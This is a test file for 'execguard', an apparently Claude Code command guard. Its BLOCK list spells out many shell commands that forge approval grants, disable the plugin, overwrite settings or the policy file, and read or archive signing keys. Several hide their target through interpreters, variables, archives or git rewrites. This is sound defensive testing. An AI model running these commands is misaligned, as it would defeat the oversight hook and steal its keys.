// protected-path through decide(): writes that touch execguard's state, the plugin, Claude Code
// settings, managed settings or the policy file are denied, also when the target can only be
// resolved at run time; reads of execguard's keys are denied; ordinary project work is allowed.
// Attack cases are data fed to the guard only: nothing here runs them.
import { describe, expect, it } from 'vitest';
import { parseApproval } from '../../src/approval/scope.js';
import { decide, type ProtectedPaths } from '../../src/guard/decide.js';
import type { GitTreeIo } from '../../src/guard/protected-path-checks.js';
import { DEFAULT_POLICY } from '../../src/guard/policy.js';
import { fileEditProtected } from '../../src/hooks/tool-calls/file-edit.js';
import { protectedPathsFor } from '../../src/state/decision-input.js';

const HOME = '/home/u';
const STATE = '/home/u/.local/state/execguard';
const PLUGIN = '/opt/execguard-plugin';
const PROJECT = '/work/proj';
const PP: ProtectedPaths = {
  stateHome: STATE,
  pluginRoot: PLUGIN,
  homeDir: HOME,
  projectDir: PROJECT,
  managedSettings: ['/etc/claude-code/managed-settings.json', '/Library/Application Support/ClaudeCode/managed-settings.json'],
  readDenied: [`${STATE}/keys`],
};

// The project's repository as the injected git I/O sees it: `main`, `feature`, `origin/main`,
// `stash@{1}` and `evil^` leave .claude/ and the policy alone; `evil`, the upstream branch and
// `stash@{0}` change .claude/settings.json; on disk that file has a local change. /tmp/other is a
// repository without protected files; `src/app.ts` is no revision.
const SAME = { '.claude/settings.json': '100644 a', '.execguard.yaml': '100644 p' };
const TREES: Record<string, Record<string, string>> = {
  HEAD: SAME,
  main: SAME,
  feature: SAME,
  'HEAD...feature': SAME,
  'HEAD...evil': SAME,
  'evil^': SAME,
  'feature^': SAME,
  'origin/main': SAME,
  'HEAD...origin/main': SAME,
  '@{-1}': SAME,
  '@{upstream}': { '.claude/settings.json': '100644 b', '.execguard.yaml': '100644 p' },
  'HEAD...@{upstream}': SAME,
  'stash@{0}^1': SAME,
  'stash@{0}': { '.claude/settings.json': '100644 b', '.execguard.yaml': '100644 p' },
  'stash@{1}^1': SAME,
  'stash@{1}': SAME,
  evil: { '.claude/settings.json': '100644 b', '.execguard.yaml': '100644 p' },
};
const under = (entries: Record<string, string>, paths: string[]) =>
  new Map(Object.entries(entries).filter(([k]) => paths.some((p) => k === p || k.startsWith(`${p}/`))));
const GIT: GitTreeIo = {
  top: (dir) => (dir.startsWith(PROJECT) ? PROJECT : dir.startsWith('/tmp/other') ? '/tmp/other' : undefined),
  tree: (top, rev, paths) =>
    top === PROJECT ? (TREES[rev] ? under(TREES[rev], paths) : undefined) : rev === 'HEAD' ? new Map() : undefined,
  worktree: (top, paths) => (top === PROJECT ? under({ ...SAME, '.claude/settings.json': '100644 local' }, paths) : new Map()),
};

async function verdict(command: string, cwd = PROJECT) {
  return decide({
    command,
    cwd,
    grant: { id: 'g', scope: parseApproval('User approved. Execute the plan.') },
    policy: DEFAULT_POLICY,
    protectedPaths: PP,
    agentSession: true,
    io: { resolveLinks: (p) => p, git: GIT, readFile: projectFile, readGitConfig: async () => ({ entries: [] }) },
  });
}

/** The project's files a command runs (npm test, make): ordinary ones, so only protected paths decide. */
function projectFile(path: string) {
  const files: Record<string, string> = {
    [`${PROJECT}/package.json`]: '{"scripts":{"test":"vitest run","build":"tsc"}}',
    [`${PROJECT}/build/Makefile`]: 'all:\n\tcc -o app main.c\n',
  };
  return Object.hasOwn(files, path) ? { text: files[path], executable: false } : { unreadable: 'missing' };
}

const BLOCK: string[] = [
  // Forged grants, however the path is spelled.
  'cp forged.json $HOME/.local/state/execguard/grants/s1/99999.json',
  'cp forged.json ~/.local/state/execguard/grants/s1/99999.json',
  'cat f > "$HOME/.local/state/execguard/grants/s1/x.json"',
  'cat f > "${HOME}/.local/state/execguard/grants/s1/x.json"',
  'cd && cp f .local/state/execguard/grants/s1/x.json',
  'cd ~ && install -D f .local/state/execguard/grants/s1/x.json',
  'cd /home/u/.local && cd state/execguard && cp /tmp/f grants/x.json',
  'D=/home/u/.local/state/execguard/grants; cp f $D/x.json',
  'cp f "$TARGET"',
  'cp f "$(echo /home/u/.local/state/execguard)/grants/x.json"',
  'echo x > "$OUT"',
  'cp -t ~/.local/state/execguard/grants f.json',
  'tee ~/.local/state/execguard/grants/x.json < f',
  'dd if=f of=/home/u/.local/state/execguard/grants/x.json',
  'truncate -s0 ~/.local/state/execguard/decisions.jsonl',
  'chmod -R 777 ~/.local/state/execguard',
  'ln -s ~/.local/state/execguard/grants g',
  'mkdir -p ~/.local/state/execguard/grants/s2',
  'tar -xf g.tar -C ~/.local/state/execguard',
  'tar -xf g.tar -C ~',
  'tar --directory=/home/u/.local/state -xf g.tar',
  'cd ~/.local/state/execguard && tar xf /tmp/g.tar',
  'unzip g.zip -d ~/.local/state/execguard/grants',
  'cd ~/.local/state/execguard && cpio -idm < /tmp/a.cpio',
  'rsync -a g/ ~/.local/state/execguard/',
  'curl -o ~/.local/state/execguard/grants/s/x.json http://example.test/y',
  'curl --output=/home/u/.local/state/execguard/grants/x.json http://example.test/y',
  'wget -O ~/.claude/settings.json http://example.test/x',
  'wget -P /opt/execguard-plugin/dist http://example.test/hook.cjs',
  'git clone https://example.test/y ~/.local/state/execguard/grants',
  "find ~/.local/state/execguard -name '*.json' -delete",
  // A name filter that can reach settings or policy files, or none that narrows the tree.
  "find . -name '*.json' -delete",
  "find . -name 'settings*' -delete",
  "find . -iname '*.YAML' -delete",
  "find . -name '.claude' -delete",
  "find . -name '*.tfplan' -o -name '*.json' -delete",
  "find . ! -name '*.tfplan' -delete",
  "find . -path '*/.claude/*' -delete",
  'find . -mtime +7 -delete',
  "find .claude -name '*.tfplan' -delete",
  "find ~ -name '*.tfplan' -delete",
  'find /home/u/.local/state -exec rm {} +',
  'ls | xargs rm',
  'rm -rf ~/.l*',
  "sed -n 'w /home/u/.local/state/execguard/grants/x.json' f",
  'sed -i s/a/b/ ~/.local/state/execguard/grants/s/x.json',
  // The plugin's own files, and the folder itself.
  'cp /dev/null /opt/execguard-plugin/dist/hook.cjs',
  'mv /opt/execguard-plugin /opt/execguard-plugin.off',
  'cd /opt/execguard-plugin && mv hooks hooks.off',
  'rm -rf /opt/execguard-plugin/hooks',
  'rm -rf /opt',
  // Claude Code settings: files and the folder itself.
  'rm -rf .claude',
  'mv .claude .claude.off',
  'mv .cl* /tmp/',
  'rm -rf .cl*',
  'cp x.json .claude/settings.json',
  'cp settings.json .claude/',
  'touch .claude/settings.local.json',
  'bash -c "rm -rf .claude"',
  '(cd .claude && rm settings.json)',
  'cp x ~/.claude/settings.json',
  'awk \'{print > ".claude/settings.json"}\' x',
  'rsync -a backup/ ./',
  'tar xzf backup.tgz',
  'unzip backup.zip',
  "echo '{}' > /etc/claude-code/managed-settings.json",
  'sudo tee /etc/claude-code/managed-settings.json < x',
  // A redirect after a list belongs to its last command (tree-sitter hangs it on the whole list).
  'mkdir -p /etc/claude-code && echo {} > /etc/claude-code/managed-settings.json',
  'true && echo x >> .execguard.yaml',
  '{ echo a; echo b; } > .claude/settings.json',
  '( cd /tmp && echo x ) > .execguard.yaml',
  'sudo mv /etc/claude-code /etc/claude-code.off',
  // The policy file.
  'sed -i s/strict/default/ .execguard.yaml',
  'echo "mode: default" > .execguard.yml',
  'rm .execguard.yaml',
  'mv .execguard.yaml x',
  // Interpreter bodies that name them.
  "python3 -c \"import shutil; shutil.copy('f', '/home/u/.local/state/execguard/grants/x')\"",
  "python3 -c \"import os,shutil; shutil.copy('f', os.path.expanduser('~/.local/state/execguard/grants/x'))\"",
  'perl -e \'open(F, ">/home/u/.local/state/execguard/grants/x")\'',
  "node -e \"require('fs').writeFileSync('.claude/settings.json', '{}')\"",
  'ruby -e \'File.write(".execguard.yaml", "")\'',
  // A script written and run.
  "echo 'cp f ~/.local/state/execguard/grants/x' > s.sh && bash s.sh",
  'echo \'import shutil; shutil.copy("f", "/home/u/.local/state/execguard/grants/x")\' > x.py && python3 x.py',
  // A folder the guard cannot resolve.
  'cd "$X" && touch a',
  'cd /tmp && cd - && rm -rf .claude',
  'cd /tmp; popd; touch .claude/x',
  // HOME or CDPATH changed by the command itself.
  'HOME=/home/u/.local/state/execguard; cp f ~/grants/x.json',
  'export HOME=/home/u/.local/state/execguard && cd && cp f grants/x.json',
  'CDPATH=/home/u/.local/state cd execguard && cp f grants/x.json',
  // Other writers: `>&file`, in-place perl, git, patch, editors, a script's arguments.
  'echo x >& ~/.local/state/execguard/grants/x.json',
  "perl -pi -e 's/a/b/' .claude/settings.json",
  'git checkout -- .claude/settings.json',
  // git commands that rewrite the work tree wholesale, in the project's repository.
  'git stash',
  'git stash -u',
  'git stash --all',
  'git stash pop',
  'git stash apply stash@{0}',
  'git checkout -- .',
  'git checkout .',
  'git checkout main -- .',
  'git checkout HEAD~1 -- .claude',
  'git restore .',
  'git restore --source=evil -- .',
  'git reset --hard',
  'git reset --hard evil',
  'git checkout -f',
  'git checkout evil',
  'git switch evil',
  'git merge evil',
  'git rebase evil',
  'git pull',
  'git pull --rebase',
  'git pull --all',
  'git pull origin main:main',
  'git cherry-pick evil',
  'git checkout-index -a -f',
  'git checkout-index --all',
  'git read-tree -u -m evil',
  'git -C /work/proj/infra stash -u',
  'cd infra && git reset --hard',
  'git update-index --add --cacheinfo 100644,0123456789abcdef0123456789abcdef01234567,x && git checkout -- x',
  'git update-index --add --cacheinfo 120000,0123456789abcdef0123456789abcdef01234567,x && git checkout -- .',
  'git checkout main -- link && echo hi > link',
  'GIT_WORK_TREE=/work/proj git --git-dir=/tmp/other/.git stash',
  'git rm -r .claude',
  'git clean -fdx',
  'patch -p1 < fix.diff',
  "ex -sc '%s/x/y/|wq' .claude/settings.json",
  'vim .execguard.yaml',
  'yq -i \'.mode = "default"\' .execguard.yaml',
  'sort -o .claude/x.txt y.txt',
  'python3 tool.py .claude/settings.json',
  'jq . x.json > .claude/settings.json',
  // Reading the keys.
  'cat ~/.local/state/execguard/keys/grant-signing.key',
  'cp ~/.local/state/execguard/keys/grant-signing.key /tmp/k',
  'base64 ~/.local/state/execguard/keys/helper.secret',
  'python3 -c "print(open(\'/home/u/.local/state/execguard/keys/grant-signing.key\').read())"',
  'tar czf /tmp/s.tgz ~/.local/state/execguard',
  // Members named after -C are read from that folder: this archives the whole state, keys included.
  'tar -czf /tmp/s.tgz -C ~/.local/state execguard',
  'tar --directory=/home/u/.local/state/execguard -cf /tmp/k.tar keys',
  'tar -C /home/u/.local -cf - state | base64',
  'cp -r ~/.local/state/execguard /tmp/copy',
  'cat ~/.local/state/execguard/k*/*',
  'K=grant-signing.key; cat "$HOME/.local/state/execguard/keys/$K"',
  'cd ~/.local/state/execguard/keys && cat *',
  'cat < /home/u/.local/state/execguard/keys/helper.secret',
];

const ALLOW: string[] = [
  'echo hi > notes.txt',
  'cp a b',
  'cp -r src build/',
  'cat README.md',
  'tar -xzf x.tgz -C build/',
  'tar czf out.tgz src',
  'tar -czf /tmp/site.tgz -C build .',
  'echo ~/.local/state/execguard',
  'mkdir -p build && touch build/x',
  'rm -rf build dist/tmp',
  'rm -f *.o',
  'sed -i s/a/b/ src/app.ts',
  'curl -o out.json https://example.test/x',
  'wget https://example.test/file.tgz',
  'git clone https://github.com/x/y',
  "find build -name '*.o' -delete",
  // Self-protection, precisely: the name filter cannot reach .claude/ or the policy file.
  "find . -name '*.tfplan' -mtime +7 -delete",
  "find . -type f -name '*.tfplan' -delete",
  "find . -iname '*.TFPLAN' -delete",
  'find . -name crash.log.1 -delete',
  'terraform state pull > backup.tfstate',
  'terraform -chdir=infra/app state pull > backup.tfstate',
  'cat .execguard.yaml',
  'cat ~/.local/state/execguard/decisions.jsonl',
  'ls ~/.local/state/execguard',
  'python3 -c "print(1)"',
  'echo x > /tmp/out.txt',
  'echo done 2>&1 >/dev/null',
  'unzip a.zip -d out/',
  'rsync -a src/ backup/',
  'ln -s ../shared lib',
  'chmod +x scripts/run.sh',
  'cp .claude.example.json config.json',
  'cd src && cp a.ts b.ts',
  'cd /tmp && tar xzf /work/proj/x.tgz',
  'git commit -m "docs: mention .claude/settings.json"',
  'grep -r claude src',
  'git checkout main',
  'git switch main',
  'git checkout -',
  'git switch -',
  'git checkout feature',
  'git merge feature',
  'git rebase feature',
  'git cherry-pick feature',
  'git pull origin main',
  'git stash apply stash@{1}',
  'git stash apply 1',
  'git checkout src/app.ts',
  'git checkout -b topic',
  'git checkout evil -- src/',
  'git stash list',
  'git stash show -p',
  'git stash push -- src/',
  'git reset --soft HEAD~1',
  'git reset HEAD -- src/app.ts',
  'git clean -n',
  'git restore --staged .',
  'cd /tmp/other && git stash -u',
  'git -C /tmp/other pull',
  'git restore src/app.ts',
  'git clean -fd build/ && echo done > build/status.txt',
  'git rm -q old.txt && echo x > old.txt',
  'git add -A',
  'git diff .claude',
  'node scripts/build.mjs',
  'python3 tool.py data.json',
  'HOME=/tmp/h npm test',
  'vim src/app.ts',
  'cd build && patch -p1 < ../fix.diff',
  'ls | tee >(cat) out.txt',
  "yq '.mode' .execguard.yaml",
  'sort .claude/allowed.txt',
  '(cd build && make); echo done > status.txt',
  'diff <(ls a) <(ls b) > d.txt',
];

describe('protected-path: must block', () => {
  it.each(BLOCK)('%s', async (command) => {
    const d = await verdict(command);
    expect(d.decision, d.reason).toBe('deny');
    expect(d.rules.map((r) => r.id)).toContain('protected-path');
  });
});

describe('protected-path: must allow', () => {
  it.each(ALLOW)('%s', async (command) => {
    const d = await verdict(command);
    expect(
      d.rules.map((r) => r.id),
      d.reason,
    ).not.toContain('protected-path');
    expect(d.decision, d.reason).toBe('allow');
  });
});

describe('protected-path: words that are not paths', () => {
  it('subcommands are not files, even in the plugin folder', async () => {
    for (const command of ['gh pr checks 7 --json state,name', 'kubectl get pods', 'kubectl get deployment/web -o json', 'npm test']) {
      const d = await verdict(command, PLUGIN);
      expect(
        d.rules.map((r) => r.id),
        `${command}: ${d.reason}`,
      ).not.toContain('protected-path');
    }
  });
});

describe('protected-path: data, not I/O', () => {
  it('a symlink resolved by the injected io is followed', async () => {
    const d = await decide({
      command: 'cp f mylink/x.json',
      cwd: PROJECT,
      grant: null,
      policy: DEFAULT_POLICY,
      protectedPaths: PP,
      agentSession: true,
      io: { resolveLinks: (p) => p.replace(`${PROJECT}/mylink`, `${STATE}/grants`) },
    });
    expect(d.decision).toBe('deny');
  });

  it('a caller that passes no protected paths gets no protected-path decisions', async () => {
    const { evaluate } = await import('../../src/guard/evaluate.js');
    expect((await evaluate('rm -rf .claude')).rules.map((r) => r.id)).not.toContain('protected-path');
  });

  it('the builder protects the state folder, the plugin, managed settings and denies reading the keys', () => {
    const pp = protectedPathsFor({ HOME, EXECGUARD_HOME: '/srv/eg', CLAUDE_PLUGIN_ROOT: PLUGIN, CLAUDE_PROJECT_DIR: PROJECT }, PROJECT);
    expect(pp.stateHome).toBe('/srv/eg');
    expect(pp.pluginRoot).toBe(PLUGIN);
    expect(pp.projectDir).toBe(PROJECT);
    expect(pp.managedSettings).toContain('/etc/claude-code/managed-settings.json');
    expect(pp.managedSettings).toContain('/Library/Application Support/ClaudeCode/managed-settings.json');
    expect(pp.readDenied).toContain('/srv/eg/keys');
    // The default folder stays protected when EXECGUARD_HOME points elsewhere.
    expect(pp.alsoProtected).toContain(STATE);
  });
});

describe('file tools use the same protected paths', () => {
  const ctx = {
    cwd: PROJECT,
    pluginRoot: PLUGIN,
    env: { HOME, EXECGUARD_HOME: STATE, CLAUDE_PLUGIN_ROOT: PLUGIN, CLAUDE_PROJECT_DIR: PROJECT },
  };
  it.each([
    `${PLUGIN}/dist/hook.cjs`,
    `${PLUGIN}/hooks/hooks.json`,
    `${PROJECT}/.claude/settings.json`,
    `${HOME}/.claude/settings.json`,
    '.claude/settings.local.json',
    '/etc/claude-code/managed-settings.json',
    `${STATE}/grants/s/x.json`,
    `${PROJECT}/.execguard.yaml`,
  ])('denies %s', (path) => {
    expect(fileEditProtected(path, ctx)).not.toBeNull();
  });
  it.each([`${PROJECT}/src/app.ts`, 'README.md', `${PROJECT}/hooks/hooks.json`, '/tmp/x.txt'])('allows %s', (path) => {
    expect(fileEditProtected(path, ctx)).toBeNull();
  });
});
